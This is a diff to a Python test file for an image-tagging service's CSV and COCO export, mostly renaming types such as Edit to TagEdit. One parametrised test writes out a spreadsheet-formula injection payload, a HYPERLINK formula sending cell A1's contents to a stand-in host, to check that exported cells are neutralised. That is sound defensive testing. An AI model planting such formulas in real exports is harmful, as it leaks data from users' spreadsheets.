@@ -17,7 +17,9 @@ from app.adapters.aws.items import attributes, image_item
 from app.adapters.aws.table import Table
 from app.api import export_formats
 from app.api.export_formats import CocoDocument
-from app.domain.images import MAX_TAGS, Edit, Image, State, created_at, new_id
+from app.domain.ids import created_at, new_id
+from app.domain.images import Image, ImageState
+from app.domain.tags import MAX_TAGS, TagEdit
 from app.main import handler
 from detector import BoundingBox, Detection
 from tests.conftest import TABLE_NAME, image
@@ -82,7 +84,7 @@ def photograph(owner: str, **counts: int) -> Image:
 
 
 def test_csv_has_a_row_for_each_tag_of_each_image(client: TestClient, table: Table, owner: str) -> None:
-    edits = {"cat": Edit(3, MOMENT), "dog": Edit(5, MOMENT), "bird": Edit(0, MOMENT)}
+    edits = {"cat": TagEdit(3, MOMENT), "dog": TagEdit(5, MOMENT), "bird": TagEdit(0, MOMENT)}
     tagged = table.save(replace(photograph(owner, dog=2, person=1, bird=1), edits=edits, taken_at=MOMENT))
     untagged = table.save(photograph(owner))
 
@@ -102,7 +104,7 @@ def test_csv_has_a_row_for_each_tag_of_each_image(client: TestClient, table: Tab
 
 def test_coco_has_an_annotation_for_each_box(client: TestClient, table: Table, owner: str) -> None:
     two = tuple(Detection("Dog", 0.8765, BoundingBox(left, 2.0, 30.0, 40.1)) for left in (0.3, 1.5))
-    saved = table.save(replace(photograph(owner), detections=two, edits={"cat": Edit(3, MOMENT)}, taken_at=MOMENT))
+    saved = table.save(replace(photograph(owner), detections=two, edits={"cat": TagEdit(3, MOMENT)}, taken_at=MOMENT))
 
     document = exported(client, "coco")
 
@@ -130,7 +132,7 @@ def test_coco_has_an_annotation_for_each_box(client: TestClient, table: Table, o
 
 
 def test_what_a_person_took_away_is_no_annotation(client: TestClient, table: Table, owner: str) -> None:
-    edits = {"dog": Edit(0, MOMENT), "cat": Edit(1, MOMENT)}
+    edits = {"dog": TagEdit(0, MOMENT), "cat": TagEdit(1, MOMENT)}
     saved = table.save(replace(photograph(owner, dog=1, cat=2), edits=edits))
 
     document = exported(client, "coco")
@@ -164,11 +166,11 @@ def test_an_empty_library_is_an_empty_document(client: TestClient) -> None:
 
 
 def test_only_what_is_ready_and_ones_own_is_exported(caller: Caller, table: Table, owner: str) -> None:
-    saved = {state: table.save(replace(photograph(owner, dog=1), state=state)) for state in State}
+    saved = {state: table.save(replace(photograph(owner, dog=1), state=state)) for state in ImageState}
     stranger = "6f2f1d9e-4c8a-4d5e-9e0a-0a1b2c3d4e5f"
     theirs = table.save(photograph(stranger, cat=1))
 
-    for person, only in ((owner, saved[State.READY]), (stranger, theirs)):
+    for person, only in ((owner, saved[ImageState.READY]), (stranger, theirs)):
         client = caller(person)
         assert [row[0] for row in exported(client)] == [only.id]
         assert [one["pixtag_id"] for one in exported(client, "coco")["images"]] == [only.id]
@@ -224,7 +226,7 @@ def test_of_a_thousand_images_each_is_exported_once(
     ],
 )
 def test_a_name_comes_out_as_it_went_in(client: TestClient, table: Table, owner: str, name: str) -> None:
-    table.save(replace(photograph(owner, dog=1), name=name, edits={name: Edit(2, MOMENT)}))
+    table.save(replace(photograph(owner, dog=1), name=name, edits={name: TagEdit(2, MOMENT)}))
 
     assert [(row[1], row[6]) for row in exported(client)] == [(name, name), (name, "dog")]
     described = exported(client, "coco")["images"][0]
@@ -242,7 +244,7 @@ def test_coco_reads_right_in_any_encoding_that_knows_ascii(client: TestClient, t
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20", " ="])
 def test_no_cell_is_a_formula(client: TestClient, table: Table, owner: str, start: str) -> None:
     name = f'{start}HYPERLINK("http://x.example?"&A1,"see")'
-    table.save(replace(photograph(owner), name=name, edits={name: Edit(1, MOMENT)}))
+    table.save(replace(photograph(owner), name=name, edits={name: TagEdit(1, MOMENT)}))
 
     (row,) = exported(client)
 
@@ -269,7 +271,7 @@ def crowd(owner: str) -> Image:
 
 def wordy(owner: str) -> Image:
     """An image whose name and tags take as much room as they can, and more when they are quoted."""
-    edits = {"😀" * 60 + str(number): Edit(999, MOMENT) for number in range(MAX_TAGS)}
+    edits = {"😀" * 60 + str(number): TagEdit(999, MOMENT) for number in range(MAX_TAGS)}
     return replace(photograph(owner), name='"' * 255, edits=edits)
 
 
